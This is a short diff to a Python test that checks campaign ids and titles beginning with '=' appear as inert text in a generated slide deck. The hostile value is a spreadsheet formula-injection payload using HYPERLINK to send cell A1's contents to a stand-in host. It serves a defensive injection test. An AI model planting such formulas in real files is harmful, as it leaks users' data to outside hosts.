@@ -56,6 +56,7 @@ def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
     data = yaml.safe_load(sample_copy.config_path.read_text(encoding="utf-8"))
     campaign = data["campaigns"].pop("exec-1on1-2026h2")
     hostile = '=HYPERLINK("https://x.invalid/?"&A1,"x")'
+    campaign["title"] = hostile  # the chart names campaigns by their titles
     data["campaigns"][hostile] = campaign
     sample_copy.config_path.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
     deck = tmp_path / "deck.pptx"
